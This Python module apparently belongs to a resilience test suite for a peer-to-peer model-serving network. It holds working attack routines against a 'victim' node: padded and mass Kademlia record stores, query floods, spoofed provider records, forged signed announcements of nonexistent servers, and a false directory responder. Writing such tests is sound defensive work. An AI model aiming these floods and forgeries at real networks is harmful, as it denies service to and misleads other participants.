"""Attacks on Kademlia and on the directory of servers."""

from __future__ import annotations

import time
from contextlib import suppress
from typing import Final

import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.kad_dht.pb.kademlia_pb2 import Message, Record
from libp2p.peer.id import ID
from multiaddr import Multiaddr

from petalnode.crypto.identity import Identity, peer_id_to_bytes
from petalnode.node.network.kad_store import server_key
from petalnode.node.network.transport.stream_bytes import StreamBytes
from petalnode.protocols import wire_pb2 as wire
from petalnode.protocols.announcement import (
    ANNOUNCEMENT,
    Announcement,
    ServerState,
    SignedAnnouncement,
    freshened,
    sign_announcement,
)
from petalnode.protocols.directory import DIRECTORY, MANIFEST
from petalnode.protocols.framing import MessageStream, PeerError
from petalnode.protocols.ids import Span, directory_key

from .connections import silent_streams
from .keys import PATIENCE, Key, Victim, delimited, until_reset

KAD: Final = "/ipfs/kad/1.0.0"
PADDING: Final = 900 << 10
AT_ONCE: Final = 1000


async def put_padded_values(key: Key, victim: Victim) -> None:
    """Records of ever new public keys, each with as much beside its value as a message takes."""
    pair = create_new_key_pair(key.random.randbytes(32))
    public = pair.public_key.serialize()
    record = Record(
        key=b"/pk/" + ID.from_pubkey(pair.public_key).to_bytes().hex().encode(),
        value=public,
        timeReceived=str(time.time()),
        author=bytes(PADDING),
    )
    await _ask(key, victim, delimited(Message(type=Message.PUT_VALUE, key=record.key, record=record)))


async def put_many_values(key: Key, victim: Victim) -> None:
    """Small records of ever new public keys, on a stream each, as fast as they are taken."""
    async with until_reset(key.open(victim, KAD)) as stream:
        for _ in range(AT_ONCE):
            pair = create_new_key_pair(key.random.randbytes(32))
            record = Record(
                key=b"/pk/" + ID.from_pubkey(pair.public_key).to_bytes().hex().encode(),
                value=pair.public_key.serialize(),
            )
            await stream.write(delimited(Message(type=Message.PUT_VALUE, key=record.key, record=record)))
            with trio.move_on_after(1.0):
                await stream.read(1 << 16)


async def put_announcements(key: Key, victim: Victim) -> None:
    """Valid announcements of made-up servers as values of the table."""
    record = announced(Identity.from_seed(key.random.randbytes(32)), victim, key)
    name = server_key(record.content.peer_id).encode()
    value = Record(key=name, value=record.to_bytes())
    await _ask(key, victim, delimited(Message(type=Message.PUT_VALUE, key=name, record=value)))


async def find_nodes(key: Key, victim: Victim) -> None:
    """A thousand questions in one piece, whose answers are not read."""
    question = delimited(Message(type=Message.FIND_NODE, key=key.random.randbytes(38)))
    async with until_reset(key.open(victim, KAD)) as stream:
        with trio.move_on_after(5.0):
            while True:
                await stream.write(question * AT_ONCE)


async def get_values(key: Key, victim: Victim) -> None:
    """Questions for values and providers that are not there."""
    kind = key.random.choice((Message.GET_VALUE, Message.GET_PROVIDERS))
    name = key.random.choice((b"/petalnode/x", b"/pk/x", directory_key(0), b""))
    await _ask(key, victim, delimited(Message(type=kind, key=name)) * 100)


async def silent_table_streams(key: Key, victim: Victim) -> None:
    await silent_streams(key, victim, KAD)


async def provider_records(key: Key, victim: Victim) -> None:
    """Records of itself under ever new keys, with addresses of others."""
    addrs = [Multiaddr(f"/ip4/11.{key.number}.{n}.1/tcp/4001").to_bytes() for n in range(20)]
    me = Message.Peer(id=peer_id_to_bytes(key.identity.peer_id), addrs=addrs, connection=1)
    many = [
        delimited(
            Message(type=Message.ADD_PROVIDER, key=b"\x12\x20" + key.random.randbytes(32), providerPeers=[me] * 20)
        )
        for _ in range(50)
    ]
    await _ask(key, victim, b"".join(many))


async def _ask(key: Key, victim: Victim, data: bytes) -> None:
    async with until_reset(key.open(victim, KAD)) as stream:
        with trio.move_on_after(PATIENCE):
            await stream.write(data)
            await stream.read(1 << 16)


# --- the directory


def announced(server: Identity, victim: Victim, key: Key) -> SignedAnnouncement:
    """A server that is not there, quick, of the model that the victim serves, or of one of very many blocks."""
    blocks = int(victim.served.get("num_blocks", 8))
    start = key.random.randrange(blocks)
    model = bytes.fromhex(victim.served.get("model_version", "11" * 32)), victim.served.get("model", "model")
    span = Span(start, key.random.randint(start + 1, blocks))
    if key.random.random() < 0.5:
        model, blocks = (b"m" * 32, "large"), ANNOUNCEMENT.max_blocks
        span = Span(0, blocks)
    content = Announcement(
        server.peer_id,
        *model,
        blocks,
        span,
        ServerState.ONLINE,
        step_seconds=0.0005,
        cache_tokens_free=100_000,
        cache_tokens=100_000,
        dtype="float32",
        addrs=(f"/ip4/203.0.113.{key.number + 1}/tcp/{key.random.randrange(1024, 60_000)}",),
    )
    return sign_announcement(server, freshened(content, now=time.time(), lifetime=ANNOUNCEMENT.max_lifetime - 60))


async def announcements(key: Key, victim: Victim) -> None:
    """Announcements of ever new servers."""
    async with until_reset(key.messages(victim, DIRECTORY)) as stream:
        for _ in range(100):
            record = announced(Identity.from_seed(key.random.randbytes(32)), victim, key)
            await stream.send(wire.DirectoryFrame(publish=record.to_wire()), timeout=PATIENCE)
            await stream.receive(timeout=PATIENCE)


async def false_directory(key: Key, victim: Victim) -> None:
    """Answers whatever it is asked with as many false announcements as an answer holds."""
    records = [announced(Identity.from_seed(key.random.randbytes(32)), victim, key) for _ in range(200)]

    async def answer(raw: StreamBytes, peer_id: str) -> None:
        stream = MessageStream(raw, DIRECTORY, peer_id)
        with suppress(PeerError):
            while True:
                await stream.receive(timeout=PATIENCE)
                page = wire.DirectoryRecords(records=[record.to_wire() for record in records], truncated=True)
                await stream.send(wire.DirectoryFrame(records=page), timeout=PATIENCE)

    key.host.set_stream_handler(DIRECTORY.id, answer)
    await key.connect(victim)
    stream = await key.messages(victim, DIRECTORY)
    own = announced(key.identity, victim, key)
    await stream.send(wire.DirectoryFrame(publish=own.to_wire()), timeout=PATIENCE)
    await trio.sleep(20)
    await stream.reset()


async def directory_questions(key: Key, victim: Victim) -> None:
    """Everything that may be asked for, in one piece, and nothing of the answers read."""
    version = bytes.fromhex(victim.served.get("model_version", "11" * 32))
    frames = (
        wire.DirectoryFrame(query=wire.DirectoryQuery(limit=10_000)),
        wire.DirectoryFrame(query=wire.DirectoryQuery(model_version=version, limit=10_000, after=b"\0")),
        wire.DirectoryFrame(query=wire.DirectoryQuery(limit=64, sample=True)),
        wire.DirectoryFrame(query=wire.DirectoryQuery(limit=1000, sample=True)),
        wire.DirectoryFrame(ping=wire.Ping(payload=bytes(32))),
        wire.DirectoryFrame(node_query=wire.NodeQuery()),
    )
    async with until_reset(key.messages(victim, DIRECTORY)) as stream:
        for _ in range(250):
            for frame in frames:
                await stream.send(frame, timeout=PATIENCE)
        await trio.sleep(1.0)


async def manifest_questions(key: Key, victim: Victim) -> None:
    """The manifest again and again, unread."""
    version = bytes.fromhex(victim.served.get("model_version", "11" * 32))
    async with until_reset(key.messages(victim, MANIFEST)) as stream:
        for _ in range(1000):
            query = wire.ManifestQuery(model_version=version)
            await stream.send(wire.ManifestFrame(query=query), timeout=PATIENCE)
        await trio.sleep(1.0)
